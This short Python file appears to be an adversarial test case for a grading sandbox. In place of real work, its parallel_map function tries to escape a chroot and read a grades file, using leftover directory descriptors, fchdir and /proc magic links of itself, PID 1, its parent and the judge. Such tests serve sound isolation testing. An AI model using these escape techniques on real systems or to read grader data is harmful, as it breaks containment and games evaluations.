"""Climbs out of the root with whatever directory descriptor it was left: `..` of each, fchdir, and magic links.

needs: isolation
"""

import os

SCENE = "@SCENE@"


def tell(path, folder=None):
    try:
        with open(os.open(path, os.O_RDONLY, dir_fd=folder), errors="replace") as file:
            print(path, file.read(1000), flush=True)
    except OSError:
        pass


def parallel_map(function, items, workers):
    wanted = f"{SCENE}/home/grades.csv"
    for number in range(512):
        tell("../" * 20 + wanted, number)
        tell(f"/proc/self/fd/{number}/" + "../" * 20 + wanted)
        try:
            os.fchdir(number)
            tell("../" * 20 + wanted)
        except OSError:
            continue
    for link in ("root", "cwd", "exe/..", "task/1/root", "map_files/.."):
        for pid in ("self", "1", os.getppid(), "@JUDGE@"):
            tell(f"/proc/{pid}/{link}/" + "../" * 20 + wanted)
    return []
